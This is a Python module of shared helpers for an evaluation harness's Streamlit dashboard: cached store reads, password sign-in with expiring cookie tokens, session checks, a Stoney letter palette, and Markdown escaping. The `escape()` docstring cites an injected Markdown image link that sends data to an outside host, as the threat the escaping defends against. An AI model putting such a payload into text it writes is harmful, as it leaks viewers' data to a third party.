"""What every dashboard page shares: settings, the store, cached reads, sign-in, and text shown safely.

Pages call library functions (`evalharness.community.*`) through the cached readers below, so the DuckDB
file is read at most once per `[dashboard] cache_seconds` for the same question, and never held open:
a run can keep writing while people look. Writes are never cached and always go through the library,
which uses `Store.transaction()` (retried while a run holds the file).
"""

from __future__ import annotations

import os
import re
import string
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timezone, tzinfo
from pathlib import Path
from typing import Any

import streamlit as st

from evalharness.community import accounts, compare, items, overview, plain, reviews, tokens, voices
from evalharness.community.accounts import Account, PermissionDenied
from evalharness.community.letters import palette as palette_letters
from evalharness.config import Config, load_config
from evalharness.errors import EvalHarnessError, StoreError
from evalharness.monitor.views import MonitorView
from evalharness.monitor.views import monitor_views as views_of_monitors
from evalharness.store import Store

HERE = Path(__file__).resolve().parent


def settings() -> Config:
    """`EVALHARNESS_CONFIG` names the config file (the CLI sets it); else ./evalharness.toml; else defaults."""
    return load_config(os.environ.get("EVALHARNESS_CONFIG") or None)


def _ttl() -> float:
    try:
        return settings().dashboard.cache_seconds
    except EvalHarnessError:
        return 10.0  # the page itself reports the config error


CACHE_SECONDS = _ttl()


def db_path() -> str:
    """`EVALHARNESS_DB` if set (the CLI's --db sets it), else `[store] path` from the config."""
    return settings().store_url()


def suite_dirs() -> list[Path]:
    """Where a suite's folder is looked for when the store does not know it: `[run] suites_dir`."""
    config = settings()
    return [config.resolve(config.run.suites_dir)]


_STORES: dict[tuple[str, float], Store] = {}


def store(path: str | None = None, *, write: bool = False) -> Store:
    """One Store per file (its thread lock keeps this process's sessions from racing for the file).

    Reads give up after 15 s of a run holding the file (the page says so); writes wait as long as
    `[dashboard] write_timeout_seconds`.
    """
    path = path or db_path()
    timeout = settings().dashboard.write_timeout_seconds if write else 15.0
    key = (path, timeout)
    if key not in _STORES:
        _STORES[key] = Store(path, lock_timeout_s=timeout)
    return _STORES[key]


def remember_pages(pages: list[Any]) -> None:
    """app.py hands over this run's st.Page objects, so a page can open another with `switch_to`."""
    st.session_state["_pages"] = {page.url_path or page.title.lower(): page for page in pages}


def switch_to(name: str) -> None:
    """Open another page (by its name in views.PAGES) — only one this person may see."""
    page = st.session_state.get("_pages", {}).get(name)
    if page is None:
        st.warning("That page is not available to you.")
        return
    st.switch_page(page)


def viewing_allowed() -> None:
    """Stop the page unless this person may look at all (`[dashboard] require_sign_in_to_view`)."""
    if settings().dashboard.require_sign_in_to_view and account() is None:
        st.info("This dashboard is open to signed-in reviewers only. Please sign in.")
        st.stop()


def page_start() -> str:
    """The first line of every page's `render()`: signed in if viewing needs it, and a results file to read.

    app.py already decided, before calling the page, that this person may see it; this checks again (a page
    is only ever run by app.py, but a second lock costs nothing) and stops with a plain explanation when there
    is nothing to show yet.
    """
    viewing_allowed()
    path = db_path()
    if not _store_exists(path):
        st.info("There are no results to show yet: the store does not exist or holds no results yet. Run "
                "`evalharness run` first, or start the dashboard with `--db` pointing at your results.")
        st.stop()
    return path


def _store_exists(path: str) -> bool:
    """A file that exists, or a database that holds the tables (one query on a reused connection)."""
    try:
        return store(path).exists()
    except StoreError:
        return False


@contextmanager
def friendly_errors() -> Iterator[None]:
    """Show a library error as a message on the page instead of a traceback."""
    try:
        yield
    except StoreError:
        st.error("The results file is busy (a run may be writing to it) and could not be read just now. "
                 "Please wait a moment and reload the page.")
    except EvalHarnessError as exc:
        st.error(escape(str(exc)))


# -- text ------------------------------------------------------------------------------------------

#: Every ASCII punctuation character: escaped, none of them can start Markdown — no link, no image, no
#: autolinked URL (`https\:\/\/…` is not recognised as one), no HTML, no maths.
_MD_SPECIAL = re.compile("([" + re.escape(string.punctuation) + "])")


def metric_label(name: str) -> str:
    """How people read a metric's name (e.g. "chrF++"): from the metric's registry entry."""
    from evalharness.registry import metric, RegistryError
    from evalharness.errors import ConfigError

    try:
        return metric(name).label
    except (ConfigError, RegistryError):  # a metric stored by a plugin that is no longer installed
        return name


def escape(text: object) -> str:
    """Text people, models or data files wrote, made safe for any Streamlit element that reads Markdown.

    An injected `![x](https://host/?d=…)` would make every viewer's browser fetch that address (and leak
    what the URL carries); escaped, it shows as typed. Stoney letters (â î û ṯ ẖ) pass through untouched.
    """
    if text is None:
        return ""
    return _MD_SPECIAL.sub(r"\\\1", str(text)).replace("\n", "  \n")


def show_text(label: str, text: str | None, *, empty: str = "(nothing)") -> None:
    """A bold label and a bordered box of untrusted text; both escaped (labels may carry checkpoint names)."""
    st.markdown(f"**{escape(label)}**")
    with st.container(border=True):
        st.markdown(escape(text) if text else f"_{empty}_")


def zone() -> tzinfo:
    """The reader's time zone (their browser's), else UTC."""
    name = None
    try:
        name = st.context.timezone
    except Exception:  # noqa: BLE001 - outside a browser
        name = None
    if isinstance(name, str) and name:
        try:
            from zoneinfo import ZoneInfo

            return ZoneInfo(name)
        except Exception:  # noqa: BLE001 - an unknown zone name: UTC, and say so
            pass
    return timezone.utc


def when(value: datetime | None, *, with_date: bool = True) -> str:
    """A stored time in the reader's time zone ("Mon 30 Nov 2026, 14:05"), with "UTC" when that is unknown."""
    text = plain.local_time(value, zone(), with_date=with_date)
    return text + (" UTC" if zone() is timezone.utc and value is not None else "")


def ago(value: datetime | None) -> str:
    return plain.age(value, datetime.now(timezone.utc))


_STYLE = """<style>
/* Touch targets at least 48 px (WCAG 2.5.5 / Material), radio choices spaced, text easy to read. */
.stButton button, .stDownloadButton button, .stFormSubmitButton button { min-height: 3rem; padding: 0.4rem 1.2rem; }
div[role="radiogroup"] label { min-height: 2.75rem; padding: 0.35rem 0.9rem 0.35rem 0.2rem; align-items: center; }
div[role="radiogroup"] { gap: 0.2rem 0.6rem; }
textarea, input[type="text"], input[type="password"] { font-size: 1.05rem !important; }
[data-testid="stMarkdownContainer"] p, [data-testid="stMarkdownContainer"] li { line-height: 1.55; }
[data-testid="stCaptionContainer"] { font-size: 0.95rem; }
@media (max-width: 640px) {
  .block-container, [data-testid="stMainBlockContainer"] { padding-left: 0.9rem; padding-right: 0.9rem; }
  h1 { font-size: 1.9rem !important; }
}
</style>"""


def style() -> None:
    """Bigger touch targets and readable text on every page (app.py calls this once per run)."""
    st.html(_STYLE)


# -- the letter palette ----------------------------------------------------------------------------------

_PALETTE_CSS = """
.evh-palette { display: flex; flex-wrap: wrap; gap: 0.4rem; margin: -0.3rem 0 0.6rem 0; }
.evh-palette button { font: inherit; font-size: 1.35rem; min-width: 3rem; min-height: 3rem; padding: 0 0.6rem;
  border: 1px solid rgba(49, 51, 63, 0.3); border-radius: 0.5rem; background: var(--st-secondary-background-color, #f0f2f6);
  color: var(--st-text-color, inherit); cursor: pointer; touch-action: manipulation; }
.evh-palette button:active { filter: brightness(0.9); }
.evh-palette button.evh-shift { font-size: 1rem; }
"""
_PALETTE_JS = r"""
export default function(component) {
  const { data, parentElement } = component;
  const box = parentElement.querySelector('.evh-palette');
  if (!box || !data) return;
  const selector = `.st-key-${data.target} textarea, .st-key-${data.target} input`;
  const field = () => document.querySelector(selector);
  const watch = (el) => {
    if (!el || el.__evhWatched) return;
    el.__evhWatched = true;
    const keep = () => { el.__evhAt = [el.selectionStart, el.selectionEnd]; };
    ['keyup', 'click', 'select', 'input', 'focus', 'blur'].forEach((e) => el.addEventListener(e, keep));
  };
  const insert = (letter) => {
    const el = field();
    if (!el) return;
    watch(el);
    if (document.activeElement !== el) {
      // a phone closes its keyboard when a button is tapped: go back to where the cursor was
      el.focus();
      const at = el.__evhAt || [el.value.length, el.value.length];
      el.setSelectionRange(at[0], at[1]);
    }
    // insertText keeps the cursor, the undo history and React's view of the field in step
    if (!document.execCommand('insertText', false, letter)) {
      const start = el.selectionStart, end = el.selectionEnd;
      const proto = el.tagName === 'TEXTAREA' ? HTMLTextAreaElement.prototype : HTMLInputElement.prototype;
      Object.getOwnPropertyDescriptor(proto, 'value').set.call(el, el.value.slice(0, start) + letter + el.value.slice(end));
      el.setSelectionRange(start + letter.length, start + letter.length);
      el.dispatchEvent(new Event('input', { bubbles: true }));
    }
    el.__evhAt = [el.selectionStart, el.selectionEnd];
  };
  let capitals = false;
  const draw = () => {
    box.replaceChildren();
    const letters = capitals ? data.capitals : data.letters;
    letters.forEach((letter) => {
      const b = document.createElement('button');
      b.type = 'button';
      b.textContent = letter;
      b.title = `Type ${letter}`;
      b.setAttribute('aria-label', `Type ${letter}`);
      b.setAttribute('data-letter', letter);
      // keep the focus (and a phone's keyboard) in the field while a letter is tapped
      b.addEventListener('pointerdown', (e) => e.preventDefault());
      b.addEventListener('mousedown', (e) => e.preventDefault());
      b.addEventListener('click', () => insert(letter));
      box.appendChild(b);
    });
    const shift = document.createElement('button');
    shift.type = 'button';
    shift.className = 'evh-shift';
    shift.textContent = capitals ? 'abc' : 'ABC';
    shift.setAttribute('aria-label', capitals ? 'Small letters' : 'Capital letters');
    shift.setAttribute('aria-pressed', capitals ? 'true' : 'false');
    shift.addEventListener('pointerdown', (e) => e.preventDefault());
    shift.addEventListener('mousedown', (e) => e.preventDefault());
    shift.addEventListener('click', () => { capitals = !capitals; draw(); });
    box.appendChild(shift);
  };
  draw();
  watch(field());
}
"""
_palette = st.components.v2.component(
    "evalharness_palette", html='<div class="evh-palette" role="group" aria-label="Stoney letters"></div>',
    css=_PALETTE_CSS, js=_PALETTE_JS, isolate_styles=False)


def palette(target_key: str) -> None:
    """Buttons for the letters of the language (â î û ṯ ẖ …) under the field whose widget key is `target_key`:
    a tap types the letter where the cursor is — on a phone too — and the field keeps its focus."""
    letters = palette_letters(settings().dashboard.language)
    _palette(key=f"palette_{target_key}",
             data={"target": target_key, "letters": list(letters.letters), "capitals": list(letters.capitals)})


def next_step(text: str, page: str, label: str, *, key: str) -> None:
    """The one thing to do next on this page, said plainly, with one button."""
    with st.container(border=True):
        st.markdown(f"**Next:** {escape(text)}")
        if st.button(label, type="primary", key=key):
            switch_to(page)


DECISION_WORDS = {
    "advance": "Passed — better than {champion}",
    "revert": "Held back — not better than {champion}",
    "incomplete": "Not decided — the test run was incomplete",
    "converged": "No further gains — training has levelled off",
}


def decision_words(d: overview.Decision) -> str:
    """A decision in words, naming the model it was compared with (which may not be the recorded champion:
    a decision made without `--record` is a trial run and changes nothing)."""
    if d.champion is None:
        words = {"advance": "Passed its checks (there was no champion to compare with)",
                 "revert": "Held back (there was no champion to compare with)"}.get(d.decision)
    else:
        words = None
    words = words or DECISION_WORDS.get(d.decision, d.decision).format(champion=d.champion)
    if d.decision in ("advance", "converged") and not d.recorded:
        words += " · not recorded: the champion did not change"
    return words


# -- cached reads ----------------------------------------------------------------------------------
# Each takes the file path first, so two dashboards on two files never share an answer.

@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def champion(db: str) -> overview.Champion | None:
    return overview.current_champion(store(db))


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def decisions(db: str, limit: int = 10) -> list[overview.Decision]:
    return overview.recent_decisions(store(db), limit)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def trends(db: str):
    return overview.metric_trends(store(db))


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def suites(db: str) -> list[overview.SuiteSummary]:
    return overview.suites(store(db), search_dirs=suite_dirs())


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def checkpoints(db: str) -> list[compare.CheckpointChoice]:
    return compare.checkpoints(store(db))


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def run_pairs(db: str, candidate: str, champion_identity: str) -> list[compare.RunPair]:
    return compare.run_pairs(store(db), candidate, champion_identity)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def compare_options(db: str, pairs: list[compare.RunPair]):
    return compare.metrics_for(store(db), pairs), compare.facets(store(db), pairs)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def compare_summary(db: str, pairs: list[compare.RunPair], filters: compare.CompareFilters,
                    higher_is_better: bool) -> compare.CompareSummary:
    return compare.summary(store(db), pairs, filters, higher_is_better)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def compare_page(db: str, pairs: list[compare.RunPair], filters: compare.CompareFilters, higher_is_better: bool,
                 limit: int, offset: int):
    return compare.page(store(db), pairs, filters, higher_is_better, limit=limit, offset=offset)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def find_items(db: str, suite_hash: str, search: str) -> list[tuple[str, str]]:
    return items.find_items(store(db), suite_hash, search, language=settings().dashboard.language)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def item_detail(db: str, suite_hash: str, item_id: str) -> items.ItemDetail | None:
    return items.item_detail(store(db), suite_hash, item_id)


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def reviewable_runs(db: str):
    return reviews.reviewable_runs(store(db))


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def monitor_views(db: str) -> list[MonitorView]:
    return views_of_monitors(store(db))


@st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
def agreements(db: str, rubric_criteria: tuple[tuple[str, str], ...], resamples: int) -> list[voices.Agreement]:
    return voices.agreements(store(db), rubric_criteria, n_resamples=resamples)


@st.cache_data(ttl=3600, show_spinner=False)
def rubric_criteria() -> tuple[tuple[str, str], ...]:
    """(id, name) of each criterion of the configured rubric; none when it cannot be read."""
    from evalharness.judge.rubric import load_rubric

    config = settings()
    shipped = Path(__file__).resolve().parents[1] / "rubrics" / Path(config.judge.rubric).name
    try:
        path = config.resolve(config.judge.rubric)
        rubric = load_rubric(path if Path(path).is_file() else shipped)
    except EvalHarnessError:
        return ()
    return tuple((cid, c.name) for cid, c in rubric.spec.criteria.items())


# Reviewer-specific reads are not cached: a reviewer must see their own save at once.


def clear_caches() -> None:
    st.cache_data.clear()


# -- sign-in and sessions --------------------------------------------------------------------------

def account() -> Account | None:
    """The signed-in account as checked at the start of this page run (see `refresh_session`)."""
    return st.session_state.get("account")


def source() -> str:
    """Where a sign-in comes from, for throttling: the browser's address, or — behind a reverse proxy on this
    machine, when `[dashboard] trust_forwarded_for` says so — the last X-Forwarded-For entry the proxy added."""
    address = st.context.ip_address
    address = address if isinstance(address, str) else None  # None on loopback (and outside a real server)
    if address is None and settings().dashboard.trust_forwarded_for:
        forwarded = st.context.headers.get("X-Forwarded-For")
        address = forwarded.split(",")[-1].strip() or None if isinstance(forwarded, str) else None
    return address or "local"


def _end_session(message: str) -> None:
    st.session_state.pop("account", None)
    st.session_state.pop("last_seen", None)
    st.session_state.pop("token_id", None)
    st.session_state["sign_in_message"] = ("info", message)


# -- staying signed in (a signed, expiring token in a cookie; see evalharness/community/tokens.py) ---------

_COOKIE_JS = """
export default function(component) {
  const { data } = component;
  if (!data || !data.name) return;
  const secure = location.protocol === 'https:' ? '; Secure' : '';
  if (data.value) {
    document.cookie = `${data.name}=${data.value}; Max-Age=${data.max_age}; Path=/; SameSite=Strict${secure}`;
  } else {
    document.cookie = `${data.name}=; Max-Age=0; Path=/; SameSite=Strict${secure}`;
  }
}
"""
_cookie_writer = st.components.v2.component("evalharness_cookie", js=_COOKIE_JS)


def _remember_sign_in(who: Account) -> None:
    """After a sign-in: a token the browser keeps, so a reload or a new tab stays signed in (bounded)."""
    hours = settings().dashboard.stay_signed_in_hours
    if hours <= 0:
        return
    try:
        token = tokens.issue(store(write=True), who, hours=hours)
    except StoreError:
        return  # signed in for this tab only
    st.session_state["token_id"] = token.token_id
    st.session_state["token_touched"] = time.monotonic()
    st.session_state["cookie_action"] = {"value": token.value, "max_age": token.max_age_seconds}


def _cookie_action() -> None:
    """Set or clear the sign-in cookie in the browser (a few lines of JavaScript, drawn once per change)."""
    action = st.session_state.pop("cookie_action", None)
    if action is None:
        return
    _cookie_writer(key=f"cookie_{uuid.uuid4().hex[:8]}", data={"name": tokens.COOKIE, **action}, height=0)


def restore_session() -> None:
    """A new browser session (a reload, a new tab) with a valid token is signed in again — once per session,
    checked against the account as it is now."""
    if account() is not None or st.session_state.get("token_checked"):
        return
    st.session_state["token_checked"] = True
    dashboard = settings().dashboard
    if dashboard.stay_signed_in_hours <= 0:
        return
    try:
        value = st.context.cookies.get(tokens.COOKIE)
    except Exception:  # noqa: BLE001 - outside a browser (tests): no cookies
        value = None
    if not isinstance(value, str) or not value:
        return
    try:
        found = tokens.verify(store(write=True), value, idle_minutes=dashboard.idle_timeout_minutes)
    except StoreError:
        return
    if found is None:
        st.session_state["cookie_action"] = {"clear": True}
        return
    who, token_id = found
    st.session_state["account"] = who
    st.session_state["last_seen"] = time.monotonic()
    st.session_state["token_id"] = token_id
    st.session_state["token_touched"] = time.monotonic()


def _touch_token() -> None:
    """Keep the token's idle clock in step with this session's pages (at most one write a minute)."""
    token_id = st.session_state.get("token_id")
    if not token_id or time.monotonic() - float(st.session_state.get("token_touched", 0)) < 60:
        return
    try:
        tokens.touch(store(write=True), token_id)
        st.session_state["token_touched"] = time.monotonic()
    except StoreError:
        pass


def refresh_session() -> Account | None:
    """app.py calls this at the start of every page run: a session idle too long, or whose account was removed,
    got a new role or a new password since it signed in, is signed out here — before any page is drawn."""
    who = account()
    if who is None:
        return None
    now = time.monotonic()
    idle = now - float(st.session_state.get("last_seen", now))
    if idle > settings().dashboard.idle_timeout_minutes * 60:
        _end_session("You were signed out after a while without activity. Please sign in again.")
        st.session_state["cookie_action"] = {"clear": True}
        return None
    try:
        current = accounts.check_session(store(), who)
    except StoreError:
        current = who  # the file is busy: keep the session; every write checks again
    if current is None:
        _end_session("Your account changed (password, role, or it was removed). Please sign in again.")
        st.session_state["cookie_action"] = {"clear": True}
        return None
    st.session_state["last_seen"] = now
    _touch_token()
    return current


def require_account(role: str = "reviewer") -> Account:
    """Before a write, an export or a publication: the session's account, checked against the database now."""
    who = account()
    if who is None:
        raise PermissionDenied("you are signed out; sign in again on the left")
    if accounts.check_session(store(write=True), who) is None:
        _end_session("Your account changed (password, role, or it was removed). Please sign in again.")
        raise PermissionDenied("your account changed since you signed in; sign in again on the left")
    if role == "admin" and not who.is_admin:
        raise PermissionDenied("only an admin can do this")
    return who


def _sign_in() -> None:
    """Form callback: check the password, count failures, and never keep the password in the session."""
    name = st.session_state.get("sign_in_name", "")
    password = st.session_state.get("sign_in_password", "")
    st.session_state["sign_in_password"] = ""
    if not name.strip() or not password:
        st.session_state["sign_in_message"] = ("warning", "Please type your name and your password.")
        return
    try:
        result = accounts.sign_in(store(write=True), name, password, settings().dashboard, source=source())
    except StoreError:
        st.session_state["sign_in_message"] = ("error", "The results file is busy; please try again in a moment.")
        return
    if result.account is not None:
        st.session_state["account"] = result.account
        st.session_state["last_seen"] = time.monotonic()
        st.session_state["sign_in_message"] = ("success", result.message)
        _remember_sign_in(result.account)
    else:
        st.session_state["sign_in_message"] = ("error", result.message)


def _sign_out() -> None:
    token_id = st.session_state.get("token_id")
    if token_id:
        try:
            tokens.revoke(store(write=True), token_id)
        except StoreError:
            pass  # the cookie is cleared below; the token still ends at its idle timeout
    st.session_state["cookie_action"] = {"clear": True}
    _end_session("Signed out.")


def sign_in_form() -> None:
    """The sign-in form, with the outcome of the last try under it."""
    st.markdown("**Sign in to review answers**")
    with st.form("sign_in_form", clear_on_submit=False, border=False):
        st.text_input("Your name", key="sign_in_name")
        st.text_input("Password", type="password", key="sign_in_password")
        st.form_submit_button("Sign in", on_click=_sign_in)
    _sign_in_message()


def _sign_in_message() -> None:
    message = st.session_state.pop("sign_in_message", None)
    if message:
        kind, text = message
        getattr(st, kind)(escape(text))


def sidebar(*, with_form: bool = True) -> None:
    """Who is signed in, or the sign-in form. (The results file's path is on the Accounts page, for admins.)

    `with_form=False` on pages that show the form in the page itself (Review, the sign-in page): on a phone
    the sidebar is folded away, and a reviewer must see where to sign in without knowing it is there."""
    with st.sidebar:
        who = account()
        if who is not None:
            st.markdown(f"Signed in as **{escape(who.name)}** ({'admin' if who.is_admin else 'reviewer'})")
            st.button("Sign out", key="sign_out", on_click=_sign_out)
            _sign_in_message()
        elif with_form:
            sign_in_form()
        _cookie_action()
